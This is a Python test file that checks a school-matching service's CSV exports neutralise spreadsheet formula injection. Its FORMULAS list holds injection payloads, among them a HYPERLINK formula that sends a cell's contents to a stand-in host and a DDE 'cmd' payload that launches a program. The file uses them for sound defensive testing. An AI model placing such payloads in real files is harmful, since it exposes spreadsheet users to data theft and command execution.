"""Every CSV the product writes is safe to open in a spreadsheet: formula cells are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pandas as pd
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from features.profile_files import save_profiles
from features.profiles import SchoolProfile
from matching.export import FORMULA_START, csv_text, neutralise_cell
from service.app import create_app
from service.cli.main import app as cli_app
from tests.support.api import WRITE, make_settings, registry_records, seed

FORMULAS = (
    '=HYPERLINK("http://x.example/?q="&A2,"details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str) -> list[list[str]]:
    """No cell of a CSV text starts a formula (numbers, such as negative contributions, stay numbers)."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell
    return rows


def test_neutralise_cell_keeps_text_readable_and_numbers_numbers() -> None:
    for formula in FORMULAS:
        assert neutralise_cell(formula) == "'" + formula
    assert neutralise_cell("Kilimani Primary") == "Kilimani Primary"
    assert neutralise_cell(-0.25) == -0.25 and neutralise_cell(3) == 3 and neutralise_cell(None) is None
    text = csv_text([{"name": f, "score": -0.5} for f in FORMULAS])
    rows = assert_safe(text)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] and all(r[1] == "-0.5" for r in rows[1:])


def _formula_records(n: int) -> list[dict]:
    records = registry_records(n, seed=11)
    for i, rec in enumerate(records):
        rec["name"] = FORMULAS[i % 4]
    return records


def test_batch_csv_neutralises_formula_injection(tmp_path: Path) -> None:
    """Names such as ``=HYPERLINK(...)`` reach the batch CSVs (API and CLI) only with a leading quote."""
    records = _formula_records(150)
    with TestClient(create_app(make_settings(tmp_path / "api"))) as client:
        seed(client, records)
        job = client.post("/batch", json={"options": {"mode": "greedy", "top_k": 10}}, headers=WRITE).json()
        deadline = time.monotonic() + 60
        while client.get(f"/batch/{job['id']}", headers=WRITE).json()["status"] in ("queued", "running"):
            assert time.monotonic() < deadline, "batch job did not finish"
            time.sleep(0.05)
        tables = {}
        for table in ("partnerships", "unmatched"):
            r = client.get(f"/batch/{job['id']}/result", params={"format": "csv", "table": table}, headers=WRITE)
            assert r.status_code == 200
            tables[table] = assert_safe(r.text)
    pairs = pd.DataFrame(tables["partnerships"][1:], columns=tables["partnerships"][0])
    assert len(pairs) > 0
    assert set(pairs["uk_school_name"]) <= {"'" + f for f in FORMULAS[:4]}  # readable: the text after the quote
    unmatched = pd.DataFrame(tables["unmatched"][1:], columns=tables["unmatched"][0])
    assert set(unmatched["school_name"]) <= {"'" + f for f in FORMULAS[:4]}

    cohort = tmp_path / "cohort.csv"
    save_profiles([SchoolProfile.model_validate(r) for r in records], cohort)
    out = tmp_path / "pairs.csv"
    result = CliRunner().invoke(
        cli_app, ["batch", str(cohort), "-o", str(out), "--encoder", "hashing", "--data-dir", str(tmp_path / "cli")]
    )
    assert result.exit_code == 0, result.output
    for path in (out, tmp_path / "pairs_unmatched.csv"):
        rows = assert_safe(path.read_text(encoding="utf-8"))
        assert len(rows) > 1
        names = {c for row in rows[1:] for c in row if c.lstrip("'") in FORMULAS}
        assert names and all(c.startswith("'") for c in names)
